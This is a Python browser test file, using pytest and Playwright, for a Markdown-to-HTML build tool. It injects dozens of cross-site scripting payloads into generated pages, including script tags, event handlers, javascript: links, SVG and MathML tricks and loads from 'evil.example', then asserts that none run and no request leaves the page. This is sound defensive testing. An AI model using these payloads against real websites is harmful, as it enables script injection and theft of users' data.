"""In a browser: no way to inject code into an HTML output runs a script, and no request leaves the page."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Request

from attack_runner import Attack, write_project

pytestmark = pytest.mark.browser

RUN = "window.__ran=1"
AWAY = "https://evil.example/x"
STOPPED = ("csp", "net::ERR_BLOCKED_BY_CSP")
INLINE = [
    f"<script>{RUN}</script>",
    f"<script src={AWAY}></script>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script><image href={AWAY} /></svg>",
    f"<img src=data:x onerror={RUN}>",
    f"<iframe src={AWAY}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<form action={AWAY}><button autofocus onfocus={RUN}>b</button></form>",
    f"<base href={AWAY}>",
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<style>@import url({AWAY}); body {{ background: url({AWAY}) }}</style>",
    f'<mark style="background: url({AWAY})" onclick={RUN} tabindex=1 autofocus onfocus={RUN}>m</mark>',
    f"<video src={AWAY} autoplay onloadstart={RUN}></video>",
    f"<audio src={AWAY} autoplay></audio>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<details open ontoggle={RUN}>d</details>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<input type=image src={AWAY} autofocus onfocus={RUN}>",
    f"<picture><source srcset={AWAY}></picture>",
    f"<math><mtext><table><mglyph><style><img src=data:x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=data:x onerror={RUN}>">x</noscript>',
    f"<a href=javascript:{RUN}>link</a>",
    f"[link](javascript:{RUN})",
    f"[x]{{onclick={RUN} style='background:url({AWAY})' .a}}",
    f'[x](https://example.org "><script>{RUN}</script>")',
    f"<a href=https://example.org ping={AWAY}>a</a>",
    f"<img srcset='{AWAY} 2x' src=data:x>",
    f"<table background={AWAY}><tr><td background={AWAY} onclick={RUN}>t</td></tr></table>",
    f"<link rel=preload as=image href={AWAY}>",
    f"<link rel=icon href={AWAY}>",
    f"<template><script>{RUN}</script></template>",
    f"<body onload={RUN} background={AWAY}>",
    f"<portal src={AWAY}></portal><frameset onload={RUN}><frame src={AWAY}></frameset>",
    f"<applet code={AWAY}></applet><bgsound src={AWAY}><track src={AWAY}>",
    f"<svg><a xlink:href=javascript:{RUN}><text>t</text></a><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href={AWAY}#a /><foreignObject><iframe src={AWAY}></iframe></foreignObject></svg>",
    f"<a href=https://example.org style='background-image: url({AWAY})'>styled</a>",
    f"[x](https://example.org){{target=_blank onclick={RUN} ping={AWAY}}}",
    f"[x]{{data-x='\"><script>{RUN}</script>'}}",
    f"![a](evil.svg){{onload={RUN} srcset='{AWAY} 2x'}}",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\includegraphics{{{AWAY}}}$",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"`<script>{RUN}</script>`{{=html}}",
    f"`<script>{RUN}</script>`{{=html5}}",
]
WAYS = [way for text in INLINE for way in (f"Text {text} more.", text)]
"""Each within a line, and as a block."""


def what_happens(browser: Browser, page: Path, change: tuple[str, str] = ("", "")) -> tuple[bool, list[str], list[str]]:
    """Open a page, and return whether a script ran, the requests, and the addresses of links that run code."""
    page.write_text(page.read_text().replace(*change, 1) if change[0] else page.read_text())
    context = browser.new_context()
    try:
        tab = context.new_page()
        requests: list[Request] = []
        tab.on("request", lambda request: requests.append(request))  # noqa: PLW0108
        tab.goto(page.as_uri())
        tab.wait_for_timeout(300)
        ran = bool(tab.evaluate("window.__ran || 0"))
        links: list[str] = tab.evaluate("[...document.links].map(it => it.protocol)")
        # Chromium also lists the requests that the policy of the page stopped.
        sent = [request.url for request in requests if request.failure not in STOPPED]
        # The pages that Pandoc itself writes have their pictures beside them.
        beyond = [url for url in sent if not url.startswith(("data:image/", page.parent.as_uri()))]
        return ran, beyond, [link for link in links if link not in ("https:", "mailto:", "file:")]
    finally:
        context.close()


def write_attacks(attack: Attack) -> Path:
    """Build a page in which every way occurs, each in a section, and return it."""
    sections = "\n\n".join(f"# Part {number}\n\n{way}" for number, way in enumerate(WAYS))
    head = f"---\nname: 'A</title><script>{RUN}</script>'\nlinks:\n  - {{label: a, url: 'javascript:{RUN}'}}\n---\n\n"
    title = f"title: 'T</title><script>{RUN}</script>'\n"
    size = "xmlns='http://www.w3.org/2000/svg' width='9' height='9'"
    drawing = (
        f"<svg {size} onload='top.{RUN}'><script>top.{RUN}</script><image href='{AWAY}' width='9' height='9'/></svg>"
    )
    filter = f"formats: [html, html5]\n{title}"
    write_project(attack.folder, head + sections, filters__all_yaml=filter, evil_svg=drawing)
    assert attack.run().status == 0
    page: Path = attack.folder / "outputs" / "all.html"
    return page


def test_nothing_runs_in_an_output(attack: Attack, browser: Browser) -> None:
    page = write_attacks(attack)
    assert what_happens(browser, page) == (False, [], [])
    assert what_happens(browser, page.with_suffix(".html5").rename(page.with_name("other.html"))) == (False, [], [])


def test_nothing_runs_in_a_review_copy(attack: Attack, browser: Browser) -> None:
    write_attacks(attack)
    assert attack.run("explain", "all", "--html", "review.html").status == 0
    assert what_happens(browser, attack.folder / "review.html") == (False, [], [])


@pytest.mark.parametrize("markup", INLINE[:2])
def test_the_policy_alone_stops_scripts(attack: Attack, browser: Browser, markup: str) -> None:
    write_project(attack.folder)
    assert attack.run().status == 0
    page = attack.folder / "outputs" / "all.html"
    more = f"{markup}<img src={AWAY}><iframe src={AWAY}></iframe></main>"
    ran, requests, _ = what_happens(browser, page, ("</main>", more))
    assert (ran, requests) == (False, [])


def test_the_attacks_work_if_the_owner_of_the_filter_allows_html(attack: Attack, browser: Browser) -> None:
    cv = f"# A\n\n{INLINE[0]}\n\n<div><img src={AWAY}></div>\n"
    write_project(attack.folder, cv, filters__all_yaml="formats: html\nunsafe_html: true\n")
    assert attack.run().status == 0
    ran, requests, _ = what_happens(browser, attack.folder / "outputs" / "all.html")
    assert (ran, requests) == (True, [AWAY])
